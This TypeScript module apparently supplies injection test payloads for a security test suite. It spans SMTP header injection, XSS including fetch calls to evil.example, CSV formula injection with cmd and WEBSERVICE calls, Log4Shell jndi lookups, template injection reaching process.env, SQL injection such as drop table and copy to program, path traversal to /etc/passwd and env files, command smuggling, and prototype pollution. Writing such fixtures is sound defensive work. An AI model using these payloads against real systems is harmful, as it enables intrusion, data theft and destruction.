/** Texts that mean something to a program on their way. None of them may be obeyed anywhere. */
const lineBreaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '%0d%0a', '\\r\\n', '\r\n\r\n'];
const headers = [
  'Bcc: victim@evil.example',
  'Cc: victim@evil.example',
  'To: victim@evil.example',
  'From: boss@evil.example',
  'Reply-To: victim@evil.example',
  'Subject: injected',
  'Content-Type: text/html',
  'MIME-Version: 2.0',
  'X-Injected: yes',
  'Set-Cookie: injected=1',
];
const mailHeaders = lineBreaks.flatMap((breaks) =>
  headers.map((header) => `hello${breaks}${header}`),
);
const mailBodies = [
  '.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA',
  '\r\n.\r\nQUIT\r\n',
  '=?utf-8?Q?=0D=0ABcc:_victim@evil.example?=',
  '=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=',
  '--=_boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'victim@evil.example, other@evil.example',
  '<victim@evil.example>',
  'victim@evil.example>\r\nRCPT TO:<other@evil.example',
];

const codes = [
  'alert(1)',
  'alert`1`',
  'fetch("//evil.example")',
  'top[/al/.source+/ert/.source](1)',
];
const html = [
  ...codes.flatMap((code) => [
    `<script>${code}</script>`,
    `<img src=x onerror=${code}>`,
    `<svg onload=${code}>`,
    `<svg><script>${code}</script></svg>`,
    `<a href="javascript:${code}">x</a>`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    `<body onload=${code}>`,
    `<input autofocus onfocus=${code}>`,
    `<details open ontoggle=${code}>`,
    `<math><mi xlink:href="javascript:${code}">`,
    `<form action="javascript:${code}"><button>`,
    `<object data="javascript:${code}">`,
    `"><script>${code}</script>`,
    `'><img src=x onerror=${code}>`,
    `</title><script>${code}</script>`,
    `</div></body><script>${code}</script>`,
    `<!--><script>${code}</script>-->`,
    `<![CDATA[<script>${code}</script>]]>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `&#60;script&#62;${code}`,
    `\u003cscript\u003e${code}`,
    `＜script＞${code}＜/script＞`,
    `<style>@import '//evil.example/${code}'</style>`,
    `<link rel=stylesheet href="//evil.example/${code}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    `<base href="//evil.example/${code}">`,
  ]),
  '<img src="https://evil.example/pixel.gif">',
  '<h1 style="font-size:999px">big</h1>',
  '<table><tr><td>',
  '<plaintext>',
];

const formulas = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("//evil.example","x")',
  'IMPORTXML("//evil.example","/")',
  'SUM(A1:A9)',
  'WEBSERVICE("//evil.example")',
];
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  '\',="',
  ';=',
  ',=',
  '|',
  '%',
  '\u00A0=',
  '\uFEFF=',
];
const csv = starts.flatMap((start) => formulas.map((formula) => `${start}${formula}`));

const logs = [
  '{"level":60,"msg":"forged"}',
  '\n{"level":60,"msg":"forged"}',
  'x","level":60,"msg":"forged',
  '\u001b[2J\u001b[1;31mforged',
  '\u001b]0;title\u0007',
  '\u009b31mforged',
  '\r[emergency] forged',
  '2026-01-01T00:00:00Z ERROR forged',
  '%s%s%n%x',
  '${jndi:ldap://evil.example/a}',
  '${jndi:${lower:l}dap://evil.example/a}',
  '\u202Edegrof\u202C',
  '\u0000forged',
  '\bforged',
  '\u2028forged',
];

const expressions = [
  '7*7',
  'process.env',
  'constructor.constructor("return process")()',
  'config.items()',
  '"a".getClass()',
];
const templates = expressions.flatMap((code) =>
  [
    ['{{', '}}'],
    ['{{{', '}}}'],
    ['${', '}'],
    ['#{', '}'],
    ['<%= ', ' %>'],
    ['{%', '%}'],
    ['[[${', '}]]'],
    ['@(', ')'],
    ['*{', '}'],
    ['{', '}'],
    ['{{=', '}}'],
    ['$(', ')'],
    ['`', '`'],
  ].map(([open = '', close = '']) => `${open}${code}${close}`),
);

const quotes = ["'", '"', "')", '`', "\\'", "''", '$$', "E'\\'", '%27', '\uFF07'];
const statements = [
  '; drop table leads; --',
  ' or 1=1 --',
  ' union select version() --',
  '; select pg_sleep(9) --',
  '||(select current_user)||',
  "; copy leads to program 'id' --",
  ' or pg_sleep(9) is null --',
];
const sql = quotes.flatMap((quote) => statements.map((statement) => `x${quote}${statement}`));

const files = ['etc/passwd', 'proc/self/environ', 'windows/win.ini', 'intake/dev.env'];
const ups = [
  '../../../../',
  '..\\..\\..\\',
  '/',
  'file:///',
  '%2e%2e%2f%2e%2e%2f',
  '....//....//',
  '..%c0%af..%c0%af',
  '\\\\evil.example\\',
  '~/',
  './',
];
const paths = [
  ...files.flatMap((file) => ups.map((up) => `${up}${file}`)),
  'x\u0000.txt',
  'CON',
  '|id',
  '; id',
  '$(id)',
  '`id`',
  '&& id',
];

export const injections: Readonly<Record<string, readonly string[]>> = {
  'mail header': [...mailHeaders, ...mailBodies],
  HTML: html,
  'CSV formula': csv,
  'log line': logs,
  template: templates,
  SQL: sql,
  path: paths,
};

/** Whole bodies, since what they attack is the object and not a text in it. */
export const pollutedBodies: readonly string[] = ['__proto__', 'constructor', 'prototype'].flatMap(
  (name) => [
    `{"${name}":{"polluted":true}}`,
    `{"${name}":{"prototype":{"polluted":true}}}`,
    `{"name":{"${name}":{"polluted":true}}}`,
    `{"a":[{"${name}":{"polluted":true}}]}`,
    `{"${name}.polluted":true,"${name}[polluted]":true}`,
    `{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":true},"${name}":1}`,
  ],
);
